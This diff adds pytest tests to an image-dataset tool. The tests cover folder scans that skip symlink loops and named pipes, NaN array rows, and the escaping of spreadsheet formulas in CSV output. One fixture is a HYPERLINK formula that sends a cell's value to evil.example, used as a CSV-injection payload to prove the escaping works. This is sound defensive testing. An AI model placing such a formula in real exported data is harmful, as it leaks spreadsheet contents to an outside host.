@@ -9,6 +9,7 @@ import copy
 import os
 import subprocess
 import zipfile
+from pathlib import Path
 
 import numpy as np
 import pandas as pd
@@ -101,6 +102,43 @@ def test_1_a_model_name_is_never_a_path(tmp_path):
     assert model_dir(tmp_path, "lite0-v2") == tmp_path / "models" / "lite0-v2"
 
 
+# ---- 10. what a scan must not open ------------------------------------------------------------
+
+
+def test_10_a_link_loop_a_pipe_and_unread_formats_are_listed_as_skipped(tmp_path):
+    from concurrent.futures import ThreadPoolExecutor
+    from concurrent.futures import TimeoutError as Late
+
+    from lib.inputs.images import Prepare, open_folder
+
+    folder = tmp_path / "real"
+    folder.mkdir()
+    for i in range(3):
+        Image.new("RGB", (8, 8), (40 * i, 0, 0)).save(folder / f"ok{i}.png")
+    Image.new("RGB", (8, 8), (0, 200, 0)).save(folder / "still.gif")
+    os.symlink(folder / "b.png", folder / "a.png")  # a.png -> b.png -> a.png
+    os.symlink(folder / "a.png", folder / "b.png")
+    os.mkfifo(folder / "pipe.png")  # opening it would wait for a writer forever
+    (folder / "photo.heic").write_bytes(b"\0" * 64)
+    with ThreadPoolExecutor(1) as pool:
+        scan = pool.submit(open_folder, folder, "real", Prepare())
+        try:
+            image_set = scan.result(timeout=60)
+        except Late:
+            os.close(os.open(folder / "pipe.png", os.O_WRONLY | os.O_NONBLOCK))  # let it go
+            pytest.fail("the scan hung on a named pipe")
+    assert sorted(r.relpath for r in image_set.records) == [
+        "ok0.png",
+        "ok1.png",
+        "ok2.png",
+        "still.gif",
+    ]
+    reasons = {Path(s.path).name: s.reason for s in image_set.skipped}
+    assert reasons["a.png"] == reasons["b.png"] == "symlink loop"
+    assert "not a regular file" in reasons["pipe.png"]
+    assert ".heic images are not read" in reasons["photo.heic"]
+
+
 # ---- 11. a Parquet with no rows --------------------------------------------------------
 
 
@@ -113,6 +151,23 @@ def test_11_a_parquet_with_no_rows_is_a_one_line_error(tmp_path):
         _run_on(tmp_path, tmp_path / "real.parquet", tmp_path / "synthetic.parquet")
     )
     assert "hold no rows" in error
+
+
+def test_17_nan_rows_of_a_float_array_are_skipped_not_published_black(tmp_path):
+    from lib.inputs.images import Prepare, open_array
+
+    array = np.random.default_rng(0).random((6, 8, 8, 3), dtype=np.float32)  # [0, 1]
+    array[1] = np.nan
+    array[4, 0, 0, 0] = np.inf
+    np.save(tmp_path / "real.npy", array)
+    image_set = open_array(tmp_path / "real.npy", "real", Prepare())
+    assert [r.row for r in image_set.records] == [0, 2, 3, 5]
+    assert [s.reason for s in image_set.skipped] == ["holds NaN or infinite values"] * 2
+    assert image_set.array_scale == 255.0  # the finite rows say [0, 1], the inf does not count
+    array[:] = np.nan
+    np.save(tmp_path / "real.npy", array)
+    with pytest.raises(GapscopeError, match="none of the 6 images"):
+        open_array(tmp_path / "real.npy", "real", Prepare())
 
 
 # ---- 12. ids outside the domain's folder, and repeated ids ------------------------------
@@ -143,6 +198,61 @@ def test_12_repeated_ids_are_a_one_line_error(tmp_path):
         _run_on(tmp_path, tmp_path / "real.parquet", tmp_path / "synthetic.parquet")
     )
     assert "ids must be unique" in error and "'same' names 60 rows" in error
+
+
+# ---- 8. a tag holding the CSV's separator -------------------------------------------------
+
+
+def test_8_a_tag_holding_the_separator_is_refused(tmp_path):
+    from lib.store.annotations import Annotations, ImageKey
+
+    notes = Annotations(tmp_path / "notes.sqlite")
+    with pytest.raises(GapscopeError, match="cannot hold ';'"):
+        notes.tag([ImageKey("h", "a.png", "real")], "a;b")
+    assert notes.tags() == {}
+
+
+# ---- 9. formulas in the CSVs ------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_9_formulas_from_data_are_written_as_text_and_read_back(published_run, tmp_path):
+    import csv
+    import io
+
+    from lib.inputs.images import read_metadata
+    from lib.store.annotations import Annotations, keys_of
+    from lib.store.curation import annotated, corrected_metadata, to_csv
+
+    notes = Annotations(tmp_path / "notes.sqlite")
+    row = int(published_run.images.index[published_run.images["domain"] == "synthetic"][0])
+    key = keys_of(published_run.rows, [row])[0]
+    notes.set_label(key, published_run.rows.at[row, "category"], FORMULA)
+    notes.tag([key], "@SUM(1+1)")
+    notes.tag([key], "-2+3")
+    cells = next(csv.DictReader(io.StringIO(to_csv(annotated(published_run, notes)))))
+    assert cells["label"] == "'" + FORMULA
+    assert cells["tags"] == "'-2+3;@SUM(1+1)"  # the joined cell starts with '-'
+    assert cells["id"] == str(row)  # numbers stay numbers
+
+    text = corrected_metadata(published_run, notes, "synthetic")
+    written = [r for r in csv.DictReader(io.StringIO(text)) if r["category"].startswith("'")]
+    assert [r["category"] for r in written] == ["'" + FORMULA]
+    (tmp_path / "next").mkdir()
+    (tmp_path / "next" / "metadata.csv").write_text(text)
+    _, rows = read_metadata(tmp_path / "next")
+    assert [r["category"] for r in rows if r["category"].startswith("=")] == [FORMULA]
+
+
+def test_9_plain_numbers_are_not_escaped_and_escaping_reverses():
+    from lib.inputs.spreadsheet import escape, unescape
+
+    for number in ("-3.5", "+1e3", "-0", ".5"):
+        assert escape(number) == number
+    for text in ("=1+1", "+x", "-x", "@x", "\tx", "\rx", "'=x", "''=x", "plain", "'plain", ""):
+        assert unescape(escape(text)) == text
+        assert not escape(text).startswith(("=", "+", "-", "@", "\t", "\r")) or text == ""
 
 
 # ---- 17. zip entries ---------------------------------------------------------------------
